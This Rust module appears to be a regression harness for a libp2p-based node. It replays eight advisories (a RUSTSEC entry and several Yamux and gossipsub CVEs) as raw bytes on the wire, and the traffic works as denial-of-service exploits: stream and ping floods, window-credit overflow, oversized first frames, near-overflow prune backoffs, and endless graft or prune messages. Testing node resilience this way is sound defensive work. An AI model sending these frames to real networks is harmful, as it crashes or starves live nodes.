//! What once stopped or filled nodes that were built on these libraries, as bytes on the wire from an admitted member.

use std::time::Duration;

use refpoint::network::names;

use super::{
    arena::Arena,
    peer::{
        DATA, Frame, GO_AWAY, GOSSIP, PING, RST, SYN, WINDOW_UPDATE, control, data, field, prune,
        subscription,
    },
};

/// One advisory's bytes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Replay {
    /// RUSTSEC-2022-0084, libp2p: streams without end.
    StreamsWithoutEnd,
    /// CVE-2024-32984, Yamux: frames that want an answer, from a peer that reads none.
    AnswersUnread,
    /// CVE-2026-31814, Yamux: credit past 2^32.
    CreditOverflow,
    /// CVE-2026-32314, Yamux: a first frame longer than its window.
    FirstFrameTooLong,
    /// CVE-2026-33040, gossipsub: a backoff of 2^64 − 1 s.
    BackoffOverflow,
    /// CVE-2026-34219, gossipsub: backoffs that overflow in a later heartbeat.
    BackoffNearOverflow,
    /// CVE-2026-95859, gossipsub: grafts of topics without end.
    GraftsWithoutEnd,
    /// The advisory after it: prunings of topics that nobody joined.
    PruningsWithoutEnd,
}

impl Replay {
    /// All of them.
    pub(crate) const ALL: [Self; 8] = [
        Self::StreamsWithoutEnd,
        Self::AnswersUnread,
        Self::CreditOverflow,
        Self::FirstFrameTooLong,
        Self::BackoffOverflow,
        Self::BackoffNearOverflow,
        Self::GraftsWithoutEnd,
        Self::PruningsWithoutEnd,
    ];

    /// Its name.
    pub(crate) const fn name(self) -> &'static str {
        match self {
            Self::StreamsWithoutEnd => "RUSTSEC-2022-0084",
            Self::AnswersUnread => "CVE-2024-32984",
            Self::CreditOverflow => "CVE-2026-31814",
            Self::FirstFrameTooLong => "CVE-2026-32314",
            Self::BackoffOverflow => "CVE-2026-33040",
            Self::BackoffNearOverflow => "CVE-2026-34219",
            Self::GraftsWithoutEnd => "CVE-2026-95859",
            Self::PruningsWithoutEnd => "GHSA-vrx6-jcp8-vm7m",
        }
    }

    /// Writes its bytes; a node may close the connection over them at any point.
    pub(crate) async fn play(self, arena: &Arena) -> anyhow::Result<()> {
        let mut peer = arena.enter().await?;
        if self != Self::AnswersUnread {
            peer.drain();
        }
        let topic = names::evidence_topic(arena.sample.federation).hash().into_string();
        let joined = subscription(&topic);
        match self {
            Self::StreamsWithoutEnd => {
                for first in (1..40_000).step_by(200) {
                    let open =
                        |stream| Frame { kind: WINDOW_UPDATE, flags: SYN, stream, length: 0 }.bytes(&[]);
                    let frames: Vec<u8> = (first..first + 200).step_by(2).flat_map(open).collect();
                    if !peer.write(&frames).await {
                        break;
                    }
                }
            }
            Self::AnswersUnread => {
                for round in 0..2_000_u32 {
                    let ping = Frame { kind: PING, flags: SYN, stream: 0, length: round };
                    let stream = round * 2 + 1;
                    let open = data(stream, SYN, b"\x13/multistream/1.0.0\n");
                    let reset = Frame { kind: WINDOW_UPDATE, flags: RST, stream, length: 0 }.bytes(&[]);
                    let frames = [ping.bytes(&[]).repeat(100), open, reset].concat();
                    if !peer.write(&frames).await {
                        break;
                    }
                }
            }
            Self::CreditOverflow => {
                let update =
                    |flags, length| Frame { kind: WINDOW_UPDATE, flags, stream: 1, length }.bytes(&[]);
                let frames = [update(SYN, u32::MAX), update(0, u32::MAX), update(0, 1)].concat();
                peer.write(&frames).await;
            }
            Self::FirstFrameTooLong => {
                for (stream, length) in [(1, 262_145), (3, 1_048_577), (5, u32::MAX)] {
                    let head = Frame { kind: DATA, flags: SYN, stream, length };
                    let body = vec![0; length.min(2 << 20) as usize];
                    peer.write(&head.bytes(&body)).await;
                    peer = arena.enter().await?;
                    peer.drain();
                }
                peer.write(&Frame { kind: GO_AWAY, flags: 0, stream: 0, length: 2 }.bytes(&[])).await;
            }
            Self::BackoffOverflow => {
                let bytes = [joined, prune(&topic, u64::MAX)].concat();
                peer.say(1, GOSSIP, &bytes).await;
            }
            Self::BackoffNearOverflow => {
                let mut bytes = joined;
                for backoff in
                    [1 << 33, 1 << 53, (1 << 63) - 1, (1 << 63) - (1 << 32), u64::MAX - (1 << 34), 1 << 63]
                {
                    bytes.extend(prune(&topic, backoff));
                }
                peer.say(1, GOSSIP, &bytes).await;
            }
            Self::GraftsWithoutEnd => {
                peer.say(1, GOSSIP, &joined).await;
                for round in 0..400_u32 {
                    let graft = |at| field(3, &field(1, format!("/topic/{round}/{at}").as_bytes()));
                    let grafts: Vec<u8> = (0..200).flat_map(graft).collect();
                    if !peer.write(&data(1, 0, &control(&grafts))).await {
                        break;
                    }
                }
            }
            Self::PruningsWithoutEnd => {
                peer.say(1, GOSSIP, &joined).await;
                for round in 0..400_u32 {
                    let pruning = |at| {
                        field(
                            4,
                            &[field(1, format!("/topic/{round}/{at}").as_bytes()), vec![24, 60]].concat(),
                        )
                    };
                    let prunings: Vec<u8> = (0..200).flat_map(pruning).collect();
                    if !peer.write(&data(1, 0, &control(&prunings))).await {
                        break;
                    }
                }
            }
        }
        // Past two of gossip's heartbeats: what overflows may do so there.
        tokio::time::sleep(Duration::from_millis(2_500)).await;
        Ok(())
    }
}
